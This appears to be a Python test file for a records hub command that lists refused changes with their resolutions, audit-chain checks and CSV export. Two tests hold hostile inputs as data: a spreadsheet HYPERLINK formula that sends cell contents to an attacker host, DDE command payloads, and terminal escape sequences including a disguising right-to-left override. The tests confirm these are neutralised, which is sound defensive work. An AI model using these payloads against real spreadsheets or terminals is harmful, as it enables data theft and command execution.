"""What the hub refused, as its administrators list it: newest first, per window, the record
by its number, the reason, and the resolution a supervisor at the window sent through the
audit log; an audit entry the window damaged does not stop the list."""

from __future__ import annotations

import csv
import datetime as dt
import io
from contextlib import redirect_stdout

import pytest

from windowdesk.domain.uuid7 import new_uuid
from windowdesk.hub.cli import main
from windowdesk.hub.services.audit_chain import GENESIS_HASH, AuditFields, entry_hash
from windowdesk.hub.services.refused_changes import refused_changes
from windowdesk.hub.storage.models import AuditRecord
from windowdesk.sync.protocol import AUDIT_REFUSAL_RESOLVED

from .conftest import EventFactory, Hub, Workstation, utc_now

ENGLISH = {"LANGUAGE": "en"}


_last_hash: dict[str, str] = {}


def _resolution_entry(
    workstation: Workstation, detail, *, at: str = "2026-12-04T07:30:00+00:00", hashed_as=None
) -> AuditRecord:
    """An audit entry as the hub stores one that a window's push carried: chained to the
    workstation's entry made before it, hashed as the window hashes it (``hashed_as``: the
    detail it was hashed with, when the stored one was changed since)."""
    entry_id, operator_id, entity_id = new_uuid(), new_uuid(), new_uuid()
    prev_hash = _last_hash.get(workstation.id, GENESIS_HASH)
    fields = AuditFields(
        id=entry_id,
        at=at,
        operator_id=operator_id,
        workstation=workstation.window_id,
        action=AUDIT_REFUSAL_RESOLVED,
        entity="case",
        entity_id=entity_id,
        detail=detail if hashed_as is None else hashed_as,
    )
    hash_ = _last_hash[workstation.id] = entry_hash(prev_hash, fields.hashed())
    return AuditRecord(
        entry_id=entry_id,
        workstation_id=workstation.id,
        center_code=workstation.center_code,
        window_id=workstation.window_id,
        client_seq=1,
        at=at,
        operator_id=operator_id,
        action=AUDIT_REFUSAL_RESOLVED,
        entity="case",
        entity_id=entity_id,
        detail=detail,
        prev_hash=prev_hash,
        hash=hash_,
        chain_ok=True,
        problem="",
        event_id=new_uuid(),
        received_at=utc_now(),
    )


def test_refused_changes_are_listed_newest_first_with_their_resolutions(
    hub: Hub, demo_catalog: None, events: EventFactory, capsys
) -> None:
    city_hall, street = hub.enroll("CH", "01"), hub.enroll("JD01", "01")
    resident = events.resident()
    unknown = events.case(resident["entity_id"], item="XX-999")
    withdrawn = events.status(unknown["entity_id"], "withdraw")
    assert [status for status, _reason in hub.push_results(city_hall, [resident, unknown, withdrawn])] == [
        "applied",
        "rejected",
        "rejected",
    ]
    street_events = EventFactory(center="JD01", window="JD01-01")
    other_resident = street_events.resident(name="李娜")
    street_unknown = street_events.case(other_resident["entity_id"], item="XX-998")
    hub.push_results(street, [other_resident, street_unknown])
    with hub.db.write() as session:
        session.add_all(
            [
                # Damaged or foreign entries first: they name no refused event and are passed over.
                _resolution_entry(city_hall, ["not", "an", "object"]),
                _resolution_entry(city_hall, {"event_id": 42, "note": "?"}),
                _resolution_entry(street, {"event_id": unknown["event_id"], "note": "another window's"}),
                _resolution_entry(
                    city_hall,
                    {"event_id": unknown["event_id"], "supervisor_name": "王主任", "note": "已按 MZ-002 重新受理"},
                ),
                _resolution_entry(
                    city_hall, {"event_id": withdrawn["event_id"], "note": "clock unreadable"}, at="yesterday"
                ),
            ]
        )

    with hub.db.read() as session:
        everything = refused_changes(session)
        listed = everything.changes
        waiting = refused_changes(session, unresolved_only=True).changes
        at_city_hall = refused_changes(session, center="CH").changes
        newest = refused_changes(session, limit=1)
    assert (everything.total, everything.unresolved) == (3, 1)
    assert ([c.event_id for c in newest.changes], newest.total, newest.unresolved) == ([listed[0].event_id], 3, 1)
    assert [(c.window_id, c.kind, c.record) for c in listed] == [
        ("JD01-01", "case.accepted", street_unknown["payload"]["number"]),
        ("CH-01", "case.status", unknown["payload"]["number"]),  # its number, from the refused acceptance
        ("CH-01", "case.accepted", unknown["payload"]["number"]),
    ]
    street_change, status_change, accepted_change = listed
    assert street_change.resolution is None  # the street window resolved another window's event: not its own
    assert (status_change.resolution.at, status_change.resolution.note) == (None, "clock unreadable")
    resolution = accepted_change.resolution
    assert (resolution.supervisor, resolution.note) == ("王主任", "已按 MZ-002 重新受理")
    assert resolution.at == dt.datetime(2026, 12, 4, 15, 30, tzinfo=resolution.at.tzinfo)  # Beijing time
    assert "XX-999" in accepted_change.reason
    assert [c.event_id for c in waiting] == [street_change.event_id]
    assert [c.window_id for c in at_city_hall] == ["CH-01", "CH-01"]

    assert main(hub.cli_args("refused", "--limit", "2"), environ=ENGLISH) == 0
    printed = capsys.readouterr().out
    assert "Changes the hub refused: 3, of which 1 not resolved at their window yet" in printed
    assert "Resolved at the window ? by ?: clock unreadable" in printed
    assert "1 older one is not shown (--limit)." in printed
    assert "Case accepted" not in printed.split("\n\n")[-2]  # the oldest, beyond the limit


def test_the_command_refuses_a_limit_below_one(hub: Hub, capsys) -> None:
    with pytest.raises(SystemExit) as refused:
        main(hub.cli_args("refused", "--limit", "0"), environ=ENGLISH)
    assert refused.value.code == 2
    assert "is not a whole number of at least 1" in capsys.readouterr().err


def test_csv_keeps_english_headings_in_a_chinese_terminal(hub: Hub) -> None:
    out = io.StringIO()
    with redirect_stdout(out):
        assert main(hub.cli_args("refused", "--format", "csv"), environ={"LANGUAGE": "zh_CN"}) == 0
    assert out.getvalue().splitlines() == [
        "received_at,center,window,kind,record,reason,resolved_at,resolved_by,resolution_note"
    ]


def _refused_with_window_text(hub: Hub, events: EventFactory, *, number: str, supervisor: str, note: str) -> None:
    """A case refused for its number, which a supervisor at the window then resolved:
    every text in the list came from the window."""
    hub.import_demo_catalog()
    city_hall = hub.enroll("CH", "01")
    resident = events.resident()
    case = events.case(resident["entity_id"], number=number)
    assert [status for status, _reason in hub.push_results(city_hall, [resident, case])] == ["applied", "rejected"]
    with hub.db.write() as session:
        session.add(
            _resolution_entry(city_hall, {"event_id": case["event_id"], "supervisor_name": supervisor, "note": note})
        )


def test_text_from_windows_reaches_the_spreadsheet_as_text_not_as_formulas(hub: Hub, events: EventFactory) -> None:
    formula = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
    _refused_with_window_text(
        hub, events, number=formula, supervisor="@SUM(1+1)*cmd|' /C calc'!A0", note="-2+3+cmd|' /C calc'!A0"
    )
    out = io.StringIO()
    with redirect_stdout(out):
        assert main(hub.cli_args("refused", "--format", "csv"), environ=ENGLISH) == 0
    header, row = csv.reader(io.StringIO(out.getvalue()))
    listed = dict(zip(header, row, strict=False))
    assert listed["record"] == "'" + formula
    assert listed["resolved_by"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert listed["resolution_note"] == "'-2+3+cmd|' /C calc'!A0"
    assert listed["reason"].startswith("The case.accepted event's ")  # no formula: as it was
    # Nothing a spreadsheet would run is left in any cell.
    assert not [cell for cell in row if cell[:1] in "=+-@\t\r"]


def test_escape_sequences_from_windows_are_shown_not_obeyed_by_the_terminal(
    hub: Hub, events: EventFactory, capsys
) -> None:
    # A title change, a link that shows other words, and letters shown in reverse order.
    supervisor = "\x1b]0;hub owned\x07王主任\x1b[2J"
    note = "\x1b]8;;http://attacker.invalid/\x1b\\已处理\x1b]8;;\x1b\\ \u202egnp.exe\rdone"
    _refused_with_window_text(hub, events, number="CH-20261125-01-\x1b[31m7", supervisor=supervisor, note=note)
    assert main(hub.cli_args("refused"), environ=ENGLISH) == 0
    for fmt in ("text", "csv"):
        if fmt == "csv":
            assert main(hub.cli_args("refused", "--format", "csv"), environ=ENGLISH) == 0
        printed = capsys.readouterr().out
        assert not {"\x1b", "\x07", "\r", "\u202e"} & set(printed)
        assert "\\u001b]0;hub owned\\u0007王主任\\u001b[2J" in printed  # what was there, visible
        assert "\\u202egnp.exe\\u000ddone" in printed


def test_a_resolution_counts_only_when_the_window_s_audit_chain_verifies_up_to_it(
    hub: Hub, demo_catalog: None, events: EventFactory, capsys
) -> None:
    window = hub.enroll("CH", "01")
    resident = events.resident()
    first, second, third = (events.case(resident["entity_id"], item=f"XX-99{n}") for n in range(3))
    assert [s for s, _ in hub.push_results(window, [resident, first, second, third])] == ["applied"] + ["rejected"] * 3
    with hub.db.write() as session:
        session.add_all(
            [
                _resolution_entry(
                    window, {"event_id": first["event_id"], "supervisor_name": "王主任", "note": "已重新受理"}
                ),
                # Changed after it was hashed (the window's word for it cannot be checked) ...
                _resolution_entry(
                    window,
                    {"event_id": second["event_id"], "supervisor_name": "王主任", "note": "已处理"},
                    hashed_as={"event_id": first["event_id"], "note": "其他"},
                ),
                # ... and an entry well linked to it, after the break, is no better.
                _resolution_entry(
                    window, {"event_id": third["event_id"], "supervisor_name": "王主任", "note": "已处理"}
                ),
            ]
        )

    with hub.db.read() as session:
        listed = refused_changes(session)
        waiting = refused_changes(session, unresolved_only=True)
    by_event = {change.event_id: change.resolution for change in listed.changes}
    assert by_event[first["event_id"]].verified
    assert not by_event[second["event_id"]].verified and not by_event[third["event_id"]].verified
    assert (listed.total, listed.unresolved) == (3, 2)
    assert {change.event_id for change in waiting.changes} == {second["event_id"], third["event_id"]}

    assert main(hub.cli_args("refused"), environ=ENGLISH) == 0
    printed = capsys.readouterr().out
    assert printed.count("Resolution not verified") == 2
    assert printed.count("Resolved at the window") == 1
    assert main(hub.cli_args("refused", "--format", "csv"), environ=ENGLISH) == 0
    rows = capsys.readouterr().out.splitlines()[1:]
    assert sum("已处理" in row for row in rows) == 0 and sum("已重新受理" in row for row in rows) == 1
